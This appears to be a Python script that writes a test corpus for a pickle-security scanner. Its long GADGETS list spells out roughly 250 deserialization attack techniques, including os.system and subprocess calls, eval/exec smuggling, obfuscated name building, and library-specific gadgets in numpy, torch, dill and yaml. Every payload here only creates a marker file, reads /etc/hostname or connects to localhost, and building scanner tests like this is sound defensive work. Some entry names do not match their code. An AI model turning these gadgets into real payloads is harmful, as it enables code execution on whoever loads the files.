"""Pickles to hold a scanner against: dangerous ones with harmless effects, harmless ones, malformed ones.

    python scan_corpus.py DIRECTORY      writes the files and manifest.json: name, file, label, class, effect
    python scan_corpus.py --verify [--every N] DIRECTORY
                                         loads each (or each Nth) dangerous pickle in a process of its own and sees that its effect happens

An effect is a file named MARK in the working directory, or an event of CPython's audit hooks. Nothing else is touched; addresses are
those of this machine, port 9. Harmless ones that need packages (numpy, pandas, scikit-learn, cloudpickle, ..) are written where those are installed.
"""

import io
import json
import os
import struct
import subprocess
import sys
import tempfile

from scan_assembler import *
import scan_data
import scan_gadgets
import scan_harmless
import scan_packages
import scan_streams
import scan_techniques

# --------------------------------------------------------------------------------------------------------- functions that do harm

# name, object, effect: "mark", or events of audit hooks of which one has to come.
SYS = G("sys", "modules")


GADGETS = [
    ("os.system", R(G("os", "system"), TOUCH), "mark"),
    ("posix.system", R(G("posix", "system"), TOUCH), "mark"),
    ("os.popen", R(G("os", "popen"), TOUCH), "subprocess.Popen"),
    ("os.mkdir", R(G("os", "mkdir"), MARK), "mark"),
    ("os.makedirs", R(G("os", "makedirs"), MARK), "mark"),
    ("os.open", R(G("os", "open"), MARK, 65), "mark"),
    ("os.symlink", R(G("os", "symlink"), "x", MARK), "mark"),
    ("os.putenv", R(G("os", "putenv"), "MARK", "1"), "os.putenv"),
    ("os.spawnlp", R(G("os", "spawnlp"), 0, "touch", "touch", MARK), "mark"),
    ("os.spawnvp", R(G("os", "spawnvp"), 0, "touch", ["touch", MARK]), "mark"),
    ("os.posix_spawnp", R(G("os", "posix_spawnp"), "touch", ["touch", MARK], {}), "os.posix_spawn"),
    ("os.listdir", R(G("os", "listdir"), "."), "os.listdir"),
    ("os.remove", R(G("os", "remove"), "nothing-here"), "os.remove"),
    ("os.rename", R(G("os", "rename"), "nothing-here", "nothing-there"), "os.rename"),
    ("os.chmod", R(G("os", "chmod"), ".", 0o755), "os.chmod"),
    ("subprocess.Popen", R(G("subprocess", "Popen"), ["touch", MARK]), "subprocess.Popen"),
    ("subprocess.run", R(G("subprocess", "run"), ["touch", MARK]), "mark"),
    ("subprocess.call", R(G("subprocess", "call"), ["touch", MARK]), "mark"),
    ("subprocess.check_call", R(G("subprocess", "check_call"), ["touch", MARK]), "mark"),
    ("subprocess.check_output", R(G("subprocess", "check_output"), ["touch", MARK]), "mark"),
    ("subprocess.getoutput", R(G("subprocess", "getoutput"), TOUCH), "mark"),
    ("subprocess.getstatusoutput", R(G("subprocess", "getstatusoutput"), TOUCH), "mark"),
    ("builtins.eval", R(G("builtins", "eval"), CODE), "mark"),
    ("builtins.exec", R(G("builtins", "exec"), CODE), "mark"),
    ("builtins.exec of code", R(G("builtins", "exec"), R(G("builtins", "compile"), CODE, "x", "exec")), "mark"),
    ("builtins.eval of a lambda that is called", R(R(G("builtins", "eval"), "lambda: " + CODE)), "mark"),
    ("builtins.eval of a tuple", R(G("builtins", "eval"), "lambda: 0, " + CODE), "mark"),
    ("builtins.exec of a def with a default", R(G("builtins", "exec"), "def f(x=%s):\n    pass\n" % CODE), "mark"),
    ("builtins.exec of a decorator", R(G("builtins", "exec"), "def d(f):\n    %s\n@d\ndef f():\n    pass\n" % CODE), "mark"),
    ("builtins.exec of a class", R(G("builtins", "exec"), "class A:\n    %s\n" % CODE), "mark"),
    ("builtins.exec behind a def", R(G("builtins", "exec"), "def f():\n    pass\n\n\n%s\n" % CODE), "mark"),
    ("builtins.exec with a form feed", R(G("builtins", "exec"), "def f():\n    pass\n\x0c%s\n" % CODE), "mark"),
    ("builtins.open", R(G("builtins", "open"), MARK, "w"), "mark"),
    ("io.open", R(G("io", "open"), MARK, "w"), "mark"),
    ("_io.open", R(G("_io", "open"), MARK, "w"), "mark"),
    ("io.FileIO", R(G("io", "FileIO"), MARK, "w"), "mark"),
    ("_io.FileIO", R(G("_io", "FileIO"), MARK, "w"), "mark"),
    ("io.open_code", R(G("io", "open_code"), "/dev/null"), "open"),
    ("codecs.open", R(G("codecs", "open"), MARK, "w"), "mark"),
    ("gzip.open", R(G("gzip", "open"), MARK, "w"), "mark"),
    ("bz2.BZ2File", R(G("bz2", "BZ2File"), MARK, "w"), "mark"),
    ("lzma.LZMAFile", R(G("lzma", "LZMAFile"), MARK, "w"), "mark"),
    ("zipfile.ZipFile", R(G("zipfile", "ZipFile"), MARK, "w"), "mark"),
    ("tarfile.open", R(G("tarfile", "open"), MARK, "w"), "mark"),
    ("wave.open", R(G("wave", "open"), MARK, "w"), "mark"),
    ("shelve.open", R(G("shelve", "open"), MARK), "open sqlite3.connect"),
    ("dbm.dumb.open", R(G("dbm.dumb", "open"), MARK, "n"), "open"),
    ("sqlite3.connect", R(G("sqlite3", "connect"), MARK), "sqlite3.connect"),
    ("logging.FileHandler", R(G("logging", "FileHandler"), MARK), "mark"),
    ("logging.handlers.RotatingFileHandler", R(G("logging.handlers", "RotatingFileHandler"), MARK), "mark"),
    ("logging.handlers.SocketHandler.createSocket", R(attr(R(G("logging.handlers", "SocketHandler"), "127.0.0.1", 9), "createSocket")), "socket.connect"),
    ("logging.config.dictConfig", R(G("logging.config", "dictConfig"), {"version": 1, "handlers": {"h": {"class": "logging.FileHandler", "filename": MARK}}}), "mark"),
    ("tempfile.mkdtemp", R(G("tempfile", "mkdtemp")), "tempfile.mkdtemp"),
    ("tempfile.NamedTemporaryFile", R(G("tempfile", "NamedTemporaryFile")), "tempfile.mkstemp open"),
    ("fileinput.FileInput", R(G("builtins", "list"), R(G("fileinput", "FileInput"), "/dev/null")), "open"),
    ("linecache.getlines", R(G("linecache", "getlines"), "/etc/hostname"), "open"),
    ("linecache.updatecache", R(G("linecache", "updatecache"), "/etc/hostname"), "open"),
    ("shutil.copyfile", R(G("shutil", "copyfile"), "/dev/null", MARK), "mark"),
    ("shutil.rmtree", R(G("shutil", "rmtree"), "nothing-here", True), "shutil.rmtree"),
    ("shutil.move", R(G("shutil", "move"), "nothing-here", "x"), "shutil.move"),
    ("shutil.make_archive", R(G("shutil", "make_archive"), MARK, "tar"), "shutil.make_archive"),
    ("shutil.chown", R(G("shutil", "chown"), "nothing-here", 0), "shutil.chown os.chown"),
    ("glob.glob", R(G("glob", "glob"), "*"), "glob.glob os.scandir"),
    ("pathlib.Path.touch", R(G("pathlib", "Path.touch"), R(G("pathlib", "PosixPath"), MARK)), "mark"),
    ("pathlib.Path.write_text", R(attr(R(G("pathlib", "PosixPath"), MARK), "write_text"), "x"), "mark"),
    ("pathlib.Path.mkdir", R(attr(R(G("pathlib", "Path"), MARK), "mkdir")), "mark"),
    ("pathlib.Path.read_text", R(attr(R(G("pathlib", "Path"), "/etc/hostname"), "read_text")), "open"),
    ("pathlib.Path.unlink", R(R(G("operator", "methodcaller"), "unlink", True), R(G("pathlib", "Path"), "nothing-here")), "os.remove"),
    ("code.InteractiveInterpreter.runsource", R(attr(R(G("code", "InteractiveInterpreter")), "runsource"), CODE), "mark"),
    ("code.InteractiveInterpreter.runcode", R(attr(R(G("code", "InteractiveInterpreter")), "runcode"), CODE), "mark"),
    ("code.interact", R(G("code", "interact"), None, R(G("builtins", "getattr"), R(G("builtins", "iter"), [CODE]), "__next__")), "exec"),
    ("timeit.timeit", R(G("timeit", "timeit"), CODE, "pass"), "exec"),
    ("timeit.repeat", R(G("timeit", "repeat"), "pass", CODE), "mark"),
    ("timeit.Timer.timeit", R(attr(R(G("timeit", "Timer"), "pass", CODE), "timeit"), 1), "mark"),
    ("timeit.main", R(G("timeit", "main"), ["-n1", "-r1", CODE]), "mark"),
    ("cProfile.run", R(G("cProfile", "run"), CODE), "mark"),
    ("cProfile.runctx", R(G("cProfile", "runctx"), CODE, {}, {}), "mark"),
    ("profile.run", R(G("profile", "run"), CODE), "mark"),
    ("profile.Profile.run", R(attr(R(G("profile", "Profile")), "run"), CODE), "mark"),
    ("cProfile.Profile.runcall", R(attr(R(G("cProfile", "Profile")), "runcall"), G("os", "system"), TOUCH), "mark"),
    ("trace.Trace.run", R(attr(R(G("trace", "Trace")), "run"), CODE), "mark"),
    ("trace.Trace.runfunc", R(G("trace", "Trace.runfunc"), R(G("trace", "Trace")), G("os", "system"), TOUCH), "mark"),
    ("bdb.Bdb.run", R(attr(R(G("bdb", "Bdb")), "run"), CODE), "exec"),
    ("bdb.Bdb.runeval", R(G("bdb", "Bdb.runeval"), R(G("bdb", "Bdb")), CODE), "exec"),
    ("pdb.run", R(G("pdb", "run"), CODE), "exec"),
    ("doctest.debug_script", R(G("doctest", "debug_script"), CODE), "exec compile"),
    ("runpy.run_path", R(G("runpy", "run_path"), "gadget.py"), "mark"),
    ("runpy.run_module", R(G("runpy", "run_module"), "gadget"), "mark"),
    ("runpy._run_code", R(G("runpy", "_run_code"), R(G("builtins", "compile"), CODE, "x", "exec"), {}), "mark"),
    ("importlib.import_module", Then(R(G("importlib", "import_module"), "antigravity_local"), None), "mark"),
    ("import of a program", G("gadget.__main__", "x"), "mark"),
    ("import antigravity", R(G("builtins", "__import__"), "antigravity"), "webbrowser.open"),
    ("imp of this", G("this", "s"), "import:this"),
    ("importlib.machinery.SourceFileLoader", R(attr(R(G("importlib.machinery", "SourceFileLoader"), "gadget", "gadget.py"), "load_module")), "mark"),
    ("zipimport.zipimporter", R(G("zipimport", "zipimporter"), "nothing-here.zip"), "any"),
    ("pkgutil.resolve_name", R(R(G("pkgutil", "resolve_name"), "os:system"), TOUCH), "mark"),
    ("pydoc.locate", R(R(G("pydoc", "locate"), "os.system"), TOUCH), "mark"),
    ("pydoc.pipepager", R(G("pydoc", "pipepager"), "x", "cat > MARK"), "mark"),
    ("pydoc.tempfilepager", R(G("pydoc", "tempfilepager"), "x", "cp /dev/null MARK; true"), "mark"),
    ("pydoc.safeimport", R(G("pydoc", "safeimport"), "gadget"), "mark"),
    ("uuid._get_command_stdout", R(G("uuid", "_get_command_stdout"), "touch", MARK), "subprocess.Popen"),
    ("ctypes.CDLL", R(G("ctypes", "CDLL"), None), "ctypes.dlopen"),
    ("ctypes.cdll.LoadLibrary", R(attr(G("ctypes", "cdll"), "LoadLibrary"), None), "ctypes.dlopen"),
    ("ctypes.CDLL.system", R(attr(R(G("ctypes", "CDLL"), None), "system"), b"touch MARK"), "mark"),
    ("ctypes.string_at", R(G("ctypes", "string_at"), 0, 0), "ctypes.string_at any"),
    ("pty.spawn", R(G("pty", "spawn"), ["true"]), "pty.spawn"),
    ("multiprocessing.util.spawnv_passfds", R(G("multiprocessing.util", "spawnv_passfds"), b"/bin/true", [b"true"], ()), "any"),
    ("_posixsubprocess.fork_exec", R(G("_posixsubprocess", "fork_exec"), 1), "any"),
    ("multiprocessing.Process", R(attr(R(G("multiprocessing.context", "ForkProcess"), None, G("os", "system"), None, (TOUCH,)), "run")), "mark"),
    ("threading.Timer.run", R(attr(R(G("threading", "Timer"), 0, G("os", "system"), [TOUCH]), "run")), "mark"),
    ("threading.Thread.run", R(G("threading", "Thread.run"), R(G("threading", "Thread"), None, G("os", "system"), None, (TOUCH,))), "mark"),
    ("_thread.start_new_thread", R(G("_thread", "start_new_thread"), G("os", "system"), (TOUCH,)), "any"),
    ("concurrent.futures submit", R(attr(R(G("concurrent.futures.thread", "ThreadPoolExecutor"), 1), "submit"), G("os", "system"), TOUCH), "os.system"),
    ("sched.scheduler.run", Then(R(attr(R(G("sched", "scheduler")), "enter"), 0, 1, G("os", "system"), (TOUCH,)), None), "any"),
    ("atexit.register", R(G("atexit", "register"), G("os", "system"), TOUCH), "mark"),
    ("weakref.finalize", R(attr(R(G("weakref", "finalize"), R(G("string", "Template"), "x"), G("os", "system"), TOUCH), "__call__")), "os.system any"),
    ("signal.signal", R(G("signal", "signal"), 10, G("os", "system")), "any"),
    ("functools.partial", R(R(G("functools", "partial"), G("os", "system"), TOUCH)), "mark"),
    ("functools.partial twice", R(R(G("functools", "partial"), R(G("functools", "partial"), G("os", "system")), TOUCH)), "mark"),
    ("functools.partial built", R(Build(R(G("functools", "partial"), G("builtins", "print")), (G("os", "system"), (TOUCH,), {}, {}))), "mark"),
    ("functools.reduce", R(G("functools", "reduce"), G("os", "system"), [TOUCH]), "any"),
    ("functools.reduce getattr", R(R(G("functools", "reduce"), G("builtins", "getattr"), ["system"], module("os")), TOUCH), "mark"),
    ("map", R(G("builtins", "list"), R(G("builtins", "map"), G("os", "system"), [TOUCH])), "mark"),
    ("filter", R(G("builtins", "list"), R(G("builtins", "filter"), G("os", "system"), [TOUCH])), "mark"),
    ("itertools.starmap", R(G("builtins", "list"), R(G("itertools", "starmap"), G("os", "system"), [(TOUCH,)])), "mark"),
    ("collections.defaultdict", R(G("operator", "getitem"), R(G("collections", "defaultdict"), R(G("functools", "partial"), G("os", "system"), TOUCH)), 1), "mark"),
    ("iter of two", R(G("builtins", "list"), R(G("builtins", "iter"), R(G("functools", "partial"), G("os", "system"), TOUCH), 0)), "mark"),
    ("re.sub", R(G("re", "sub"), "x", R(G("functools", "partial"), G("os", "system")), "x"), "any"),
    ("operator.methodcaller", R(R(G("operator", "methodcaller"), "system", TOUCH), module("os")), "mark"),
    ("operator.attrgetter", R(R(R(G("operator", "attrgetter"), "system"), module("os")), TOUCH), "mark"),
    ("operator.attrgetter with dots", R(R(R(G("operator", "attrgetter"), "os.system"), module("shutil")), TOUCH), "mark"),
    ("operator.itemgetter", R(R(R(G("operator", "attrgetter"), "system"), R(R(G("operator", "itemgetter"), "os"), SYS)), TOUCH), "mark"),
    ("operator.call", R(R(R(G("operator", "call"), G("operator", "attrgetter"), "system"), module("os")), TOUCH), "mark"),
    ("sys.modules item", R(attr(R(G("operator", "getitem"), SYS, "os"), "system"), TOUCH), "mark"),
    ("dict.get of sys.modules", R(attr(R(G("builtins", "dict.get"), SYS, "os"), "system"), TOUCH), "mark"),
    ("dict.__getitem__ of __dict__", R(R(G("builtins", "dict.__getitem__"), G("os", "__dict__"), "system"), TOUCH), "mark"),
    ("vars of a module", R(R(G("operator", "getitem"), R(G("builtins", "vars"), module("os")), "system"), TOUCH), "mark"),
    ("builtins through a module", R(R(G("builtins", "dict.get"), G("collections", "__builtins__"), "exec"), CODE), "mark"),
    ("builtins through a function's globals", R(R(G("operator", "getitem"), R(G("operator", "getitem"), G("collections", "namedtuple.__globals__"), "__builtins__"), "eval"), CODE), "mark"),
    ("__subclasses__", R(G("builtins", "object.__subclasses__")), "any"),
    ("type.__subclasses__", R(G("builtins", "type.__subclasses__"), G("builtins", "object")), "any"),
    ("getattr of a class", R(attr(attr(G("warnings", "catch_warnings"), "__init__"), "__call__")), "any"),
    ("__import__ and getattr", R(attr(R(G("builtins", "__import__"), "os"), "system"), TOUCH), "mark"),
    ("import_module and getattr", R(attr(module("os"), "system"), TOUCH), "mark"),
    ("importlib.__import__", R(attr(R(G("importlib", "__import__"), "posix"), "system"), TOUCH), "mark"),
    ("importlib._bootstrap._gcd_import", R(attr(R(G("importlib._bootstrap", "_gcd_import"), "os"), "system"), TOUCH), "mark"),
    ("object.__getattribute__", R(R(G("builtins", "object.__getattribute__"), module("os"), "system"), TOUCH), "mark"),
    ("inspect.getattr_static", R(R(G("inspect", "getattr_static"), module("os"), "system"), TOUCH), "mark"),
    ("str join builds a name", R(attr(R(G("builtins", "__import__"), R(G("builtins", "str.join"), "", ["o", "s"])), R(G("operator", "add"), "sys", "tem")), TOUCH), "mark"),
    ("codecs builds a name", R(attr(R(G("builtins", "__import__"), R(G("codecs", "decode"), "bf", "rot13")), R(G("codecs", "decode"), "flfgrz", "rot13")), TOUCH), "mark"),
    ("reversed builds a name", R(attr(R(G("builtins", "__import__"), R(G("builtins", "str.join"), "", R(G("builtins", "reversed"), ["s", "o"]))), "system"), TOUCH), "mark"),
    ("marshal and FunctionType", R(R(G("types", "FunctionType"), R(G("marshal", "loads"), __import__("marshal").dumps(compile(BODY, "x", "exec"))), {})), "mark"),
    ("exec of marshal", R(G("builtins", "exec"), R(G("marshal", "loads"), __import__("marshal").dumps(compile(BODY, "x", "exec")))), "mark"),
    ("FunctionType of compile", R(R(G("types", "FunctionType"), R(G("builtins", "compile"), BODY, "x", "exec"), {})), "mark"),
    ("pickle.loads", R(G("pickle", "loads"), pickle_of(R(G("os", "system"), TOUCH), 2)), "mark"),
    ("_pickle.loads", R(G("_pickle", "loads"), pickle_of(R(G("os", "system"), TOUCH), 4)), "mark"),
    ("pickle.loads twice", R(G("pickle", "loads"), pickle_of(R(G("pickle", "loads"), pickle_of(R(G("os", "system"), TOUCH), 0)), 4)), "mark"),
    ("pickle.loads of base64", R(G("pickle", "loads"), R(G("base64", "b64decode"), __import__("base64").b64encode(pickle_of(R(G("os", "system"), TOUCH), 2)).decode())), "mark"),
    ("pickle.loads of zlib", R(G("pickle", "loads"), R(G("zlib", "decompress"), __import__("zlib").compress(pickle_of(R(G("os", "system"), TOUCH), 2)))), "mark"),
    ("pickle.loads gives a function", R(R(G("pickle", "loads"), pickle_of(G("os", "system"), 2)), TOUCH), "mark"),
    ("pickle._Unpickler", R(attr(R(G("pickle", "_Unpickler"), R(G("io", "BytesIO"), pickle_of(R(G("os", "system"), TOUCH), 2))), "load")), "mark"),
    ("pickle.Unpickler.load", R(G("pickle", "Unpickler.load"), R(G("pickle", "Unpickler"), R(G("io", "BytesIO"), pickle_of(R(G("os", "system"), TOUCH), 2)))), "mark"),
    ("pickle.load", R(G("pickle", "load"), R(G("io", "BytesIO"), pickle_of(R(G("os", "system"), TOUCH), 2))), "mark"),
    ("copyreg.__newobj__", R(G("copyreg", "__newobj__"), G("builtins", "type"), "A", (), {}), "skip"),
    ("copyreg.pickle", R(G("copyreg", "pickle"), G("decimal", "Decimal"), G("os", "system")), "any"),
    ("type with a method", R(G("operator", "add"), R(R(G("builtins", "type"), "A", (), {"__add__": R(G("builtins", "staticmethod"), G("os", "system"))})), TOUCH), "mark"),
    ("types.MethodType", R(R(G("types", "MethodType"), G("os", "system"), TOUCH)), "mark"),
    ("urllib.request.urlopen", R(G("urllib.request", "urlopen"), "http://127.0.0.1:9/"), "urllib.Request socket.connect"),
    ("urllib.request.urlretrieve", R(G("urllib.request", "urlretrieve"), "http://127.0.0.1:9/", MARK), "urllib.Request"),
    ("http.client.HTTPConnection", R(attr(R(G("http.client", "HTTPConnection"), "127.0.0.1", 9), "connect")), "http.client.connect socket.connect"),
    ("socket.create_connection", R(G("socket", "create_connection"), ("127.0.0.1", 9)), "socket.connect"),
    ("socket.socket", R(G("socket", "socket")), "socket.__new__"),
    ("socket.getaddrinfo", R(G("socket", "getaddrinfo"), "127.0.0.1", 9), "socket.getaddrinfo"),
    ("socket.gethostbyname", R(G("socket", "gethostbyname"), "127.0.0.1"), "socket.gethostbyname"),
    ("ftplib.FTP", R(G("ftplib", "FTP"), "127.0.0.1"), "ftplib.connect"),
    ("smtplib.SMTP", R(G("smtplib", "SMTP"), "127.0.0.1", 9), "smtplib.connect"),
    ("poplib.POP3", R(G("poplib", "POP3"), "127.0.0.1", 9), "poplib.connect socket.connect"),
    ("imaplib.IMAP4", R(G("imaplib", "IMAP4"), "127.0.0.1", 9), "imaplib.open"),
    ("imaplib.IMAP4_stream", R(G("imaplib", "IMAP4_stream"), TOUCH), "subprocess.Popen"),
    ("ssl.get_server_certificate", R(G("ssl", "get_server_certificate"), ("127.0.0.1", 9)), "socket.connect"),
    ("xmlrpc.client.ServerProxy", R(attr(R(G("xmlrpc.client", "ServerProxy"), "http://127.0.0.1:9/"), "f")), "socket.connect"),
    ("webbrowser.open", R(G("webbrowser", "open"), "http://127.0.0.1:9/"), "webbrowser.open"),
    ("asyncio.run", R(G("asyncio", "run"), R(G("asyncio", "create_subprocess_shell"), TOUCH)), "subprocess.Popen"),
    ("xml.etree.ElementTree.parse", R(G("xml.etree.ElementTree", "parse"), "/etc/hostname"), "open"),
    ("configparser.read", R(attr(R(G("configparser", "ConfigParser")), "read"), "/etc/hostname"), "open"),
    ("mailbox.mbox", R(G("mailbox", "mbox"), MARK), "open"),
    ("netrc.netrc", R(G("netrc", "netrc"), "/dev/null"), "open"),
    ("mimetypes.read_mime_types", R(G("mimetypes", "read_mime_types"), "/etc/hostname"), "open"),
    ("tokenize.open", R(G("tokenize", "open"), "/etc/hostname"), "open"),
    ("py_compile.compile", R(G("py_compile", "compile"), "gadget.py", MARK), "mark"),
    ("compileall.compile_file", R(G("compileall", "compile_file"), "gadget.py"), "open"),
    ("filecmp.cmp", R(G("filecmp", "cmp"), "/etc/hostname", "/etc/hosts", False), "any"),
    ("zipapp.create_archive", R(G("zipapp", "create_archive"), ".", "nothing/here"), "any"),
    ("venv.create", R(G("venv", "create"), MARK), "open os.mkdir"),
    ("ensurepip._run_pip", R(G("ensurepip", "_run_pip"), ["--version"]), "subprocess.Popen"),
    ("site.addsitedir", R(G("site", "addsitedir"), "sitedir"), "mark"),
    ("sys.setrecursionlimit", R(G("sys", "setrecursionlimit"), 5000), "any"),
    ("sys.settrace", R(G("sys", "settrace"), None), "any sys.settrace"),
    ("sys.addaudithook", R(G("sys", "addaudithook"), G("builtins", "repr")), "any"),
    ("sys._getframe", R(G("sys", "_getframe")), "sys._getframe"),
    ("sys.exit", R(G("sys", "exit"), 0), "any"),
    ("builtins.exit", R(G("builtins", "setattr"), module("os"), "mark", 1), "any"),
    ("builtins.input", R(G("builtins", "input")), "builtins.input"),
    ("builtins.breakpoint", R(G("builtins", "breakpoint")), "builtins.breakpoint"),
    ("builtins.globals", R(G("builtins", "globals")), "any"),
    ("builtins.delattr", R(G("builtins", "delattr"), module("this_is_harmless"), "x"), "any"),
    ("gc.get_objects", R(G("gc", "get_objects")), "gc.get_objects"),
    ("faulthandler._sigabrt reference", R(G("faulthandler", "enable")), "any"),
    ("resource.setrlimit", R(G("resource", "setrlimit"), 4, (0, -1)), "resource.setrlimit"),
    ("unittest.mock._importer", R(attr(R(G("unittest.mock", "_importer"), "os"), "system"), TOUCH), "any"),
    ("unittest.mock.patch", R(G("unittest.mock", "patch"), "os.system"), "any"),
    ("test.support run", R(G("test.support.script_helper", "assert_python_ok"), "-c", CODE), "mark"),
    ("string.Formatter.get_field", R(G("string", "Formatter.get_field"), R(G("string", "Formatter")), "0.system", [module("os")], {}), "any"),
    ("typing.ForwardRef._evaluate", R(G("typing", "ForwardRef._evaluate"), R(G("typing", "ForwardRef"), CODE), {}, {}, R(G("builtins", "frozenset"))), "mark"),
    ("typing.get_type_hints", R(G("typing", "get_type_hints"), R(G("builtins", "type"), "A", (), {"__annotations__": {"x": CODE}})), "mark"),
    ("dataclasses.make_dataclass", R(G("dataclasses", "make_dataclass"), "A", ["x"]), "exec"),
    ("dataclasses._create_fn", R(G("dataclasses", "_create_fn"), "f", ("x=" + CODE,), ["pass"]), "exec"),
    ("copy._reconstruct", R(G("copy", "_reconstruct"), None, None, G("os", "system"), (TOUCH,)), "mark"),
    ("optparse and argparse.FileType", R(R(G("argparse", "FileType"), "w"), MARK), "mark"),
    ("statistics with a key", R(G("builtins", "max"), R(G("builtins", "map"), G("os", "system"), [TOUCH])), "mark"),
    ("ast and compile", R(G("builtins", "exec"), R(G("builtins", "compile"), R(G("ast", "parse"), CODE), "x", "exec")), "mark"),
    ("lib2to3.pgen2.grammar", R(attr(R(G("lib2to3.pgen2.grammar", "Grammar")), "loads"), pickle_of(Build(New(G("builtins", "object")), None) if False else R(G("os", "system"), TOUCH), 2)), "mark"),
    ("lib2to3.pgen2.pgen make_label", R(G("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, None, None), "any"),
    ("idlelib.run", R(G("idlelib.run", "idle_showwarning_subproc"), "x", G("builtins", "Warning"), "x", 1), "any"),
    ("idlelib.calltip.get_entity", R(G("idlelib.calltip", "get_entity"), CODE), "mark"),
    ("distutils.file_util.write_file", R(G("distutils.file_util", "write_file"), MARK, ["x"]), "mark"),
    ("distutils.spawn.spawn", R(G("distutils.spawn", "spawn"), ["touch", MARK]), "mark"),
    ("distutils.core.run_setup", R(G("distutils.core", "run_setup"), "gadget.py"), "mark"),
    ("nturl2path import", R(G("_osx_support", "_read_output"), TOUCH), "mark"),
    ("_aix_support", R(G("_aix_support", "_aix_bos_rte"), ), "any"),
    ("cgitb.lookup", R(G("cgitb", "enable")), "any"),
    ("rlcompleter", R(attr(R(G("rlcompleter", "Completer"), {}), "attr_matches"), "x.y"), "any"),
    ("smtpd import", R(G("asyncore", "loop"), 0, False, {}), "any"),
    ("pickletools.dis", R(G("pickletools", "dis"), b"N.", R(G("builtins", "open"), MARK, "w")), "mark"),
    ("plistlib.load", R(G("plistlib", "load"), R(G("builtins", "open"), "/etc/hostname", "rb")), "open"),
    ("numpy.load", R(G("numpy", "load"), "/etc/hostname"), "any"),
    ("numpy.testing runstring", R(G("numpy.testing._private.utils", "runstring"), CODE, {}), "any"),
    ("numpy.f2py getlincoef", R(G("numpy.f2py.crackfortran", "getlincoef"), CODE, {}), "any"),
    ("numpy builtins", R(R(G("builtins", "dict.get"), G("numpy", "__builtins__"), "eval"), CODE), "any"),
    ("numpy sys.modules", Build(G("numpy", "prod"), (None, G("numpy", "core._internal.sys.modules"))), "any"),
    ("numpy.save", R(G("numpy", "save"), MARK, 1), "any"),
    ("numpy.fromfile", R(G("numpy", "fromfile"), "/etc/hostname"), "any"),
    ("numpy.memmap", R(G("numpy", "memmap"), MARK, "u1", "w+", 0, (1,)), "any"),
    ("numpy.vectorize", R(R(G("numpy", "vectorize"), G("os", "system")), [TOUCH]), "any"),
    ("numpy.apply_along_axis", R(G("numpy", "apply_along_axis"), G("os", "system"), 0, [TOUCH]), "any"),
    ("pandas.eval", R(G("pandas", "eval"), "@__import__('os').system('touch MARK')"), "any"),
    ("pandas.read_pickle", R(G("pandas", "read_pickle"), "x.pkl"), "any"),
    ("pandas.io.common.get_handle", R(G("pandas.io.common", "get_handle"), MARK, "w"), "any"),
    ("pandas read_csv", R(G("pandas", "read_csv"), "http://127.0.0.1:9/"), "any"),
    ("joblib.load", R(G("joblib", "load"), "x.joblib"), "any"),
    ("sklearn.datasets.load_files", R(G("sklearn.datasets", "load_files"), "/etc"), "any"),
    ("scipy.io.loadmat", R(G("scipy.io", "loadmat"), "/etc/hostname"), "any"),
    ("torch.load", R(G("torch", "load"), "x.pt"), "any"),
    ("torch.hub.load", R(G("torch.hub", "load"), "a/b", "c"), "any"),
    ("torch.jit.load", R(G("torch.jit", "load"), "x.pt"), "any"),
    ("torch.utils.collect_env.run", R(G("torch.utils.collect_env", "run"), TOUCH), "any"),
    ("torch.utils.bottleneck", R(G("torch.utils.bottleneck.__main__", "run_cprofile"), CODE, {}), "any"),
    ("torch.utils._config_module", R(G("torch.utils._config_module", "ConfigModule.load_config"), None, b"x"), "any"),
    ("torch._dynamo guards", R(G("torch._dynamo.guards", "GuardBuilder.get"), None, CODE), "any"),
    ("torch.fx evaluate_guards", R(G("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), None, CODE, []), "any"),
    ("torch._inductor compile_file", R(G("torch._inductor.codecache", "compile_file"), "", "", ["sh", "-c", TOUCH]), "any"),
    ("torch.jit.unsupported_tensor_ops", R(G("torch.jit.unsupported_tensor_ops", "execWrapper"), CODE, {}, {}), "any"),
    ("torch.utils.data decoder", R(G("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ".pkl", b"x"), "any"),
    ("torch.ops.load_library", R(G("torch.ops", "load_library"), "x.so"), "any"),
    ("torch.cuda.memory", R(G("torch.utils.cpp_extension", "load_inline"), "x", ""), "any"),
    ("torch.distributed.run", R(G("torch.distributed.run", "main"), []), "any"),
    ("torch rebuild from type", R(G("torch._tensor", "_rebuild_from_type_v2"), G("os", "system"), G("builtins", "str"), (TOUCH,), None), "any"),
    ("pip.main", R(G("pip", "main"), ["--version"]), "any"),
    ("pip internal", R(G("pip._internal.cli.main", "main"), ["--version"]), "any"),
    ("setuptools", R(G("setuptools.sandbox", "run_setup"), "x", []), "any"),
    ("pkg_resources", R(G("pkg_resources", "run_script"), "x", "y"), "any"),
    ("requests.get", R(G("requests", "get"), "http://127.0.0.1:9/"), "any"),
    ("requests.api.post", R(G("requests.api", "post"), "http://127.0.0.1:9/"), "any"),
    ("aiohttp", R(G("aiohttp.client", "request"), "GET", "http://127.0.0.1:9/"), "any"),
    ("yaml.unsafe_load", R(G("yaml", "unsafe_load"), "!!python/object/apply:os.system [x]"), "any"),
    ("jinja2", R(attr(R(G("jinja2", "Template"), "{{x}}"), "render")), "any"),
    ("sympy.sympify", R(G("sympy", "sympify"), CODE), "any"),
    ("numexpr.evaluate", R(G("numexpr", "evaluate"), CODE), "any"),
    ("IPython", R(G("IPython.utils.process", "system"), TOUCH), "any"),
    ("dill eval", R(G("dill._dill", "_eval_repr"), CODE), "any"),
    ("dill type", R(G("dill._dill", "_create_type"), G("os", "system"), TOUCH), "any"),
    ("dill attr", R(R(G("dill._dill", "_get_attr"), R(G("dill._dill", "_import_module"), "os"), "system"), TOUCH), "any"),
    ("dill import", R(R(G("dill._dill", "_import_module"), "os.system"), TOUCH), "any"),
    ("cloudpickle subimport", R(attr(R(G("cloudpickle.cloudpickle", "subimport"), "os"), "system"), TOUCH), "any"),
    ("cloudpickle builtin_type", R(R(R(G("cloudpickle.cloudpickle", "_builtin_type"), "FunctionType"), R(G("marshal", "loads"), __import__("marshal").dumps(compile(BODY, "x", "exec"))), {})), "any"),
    ("keras", R(G("keras.models", "load_model"), "x.h5"), "any"),
    ("tensorflow", R(G("tensorflow", "io.read_file"), "/etc/hostname"), "any"),
    ("transformers", R(G("transformers", "pipeline"), "x"), "any"),
    ("huggingface_hub", R(G("huggingface_hub", "hf_hub_download"), "a", "b"), "any"),
    ("psutil.Popen", R(G("psutil", "Popen"), ["touch", MARK]), "any"),
    ("pexpect.run", R(G("pexpect", "run"), TOUCH), "any"),
]

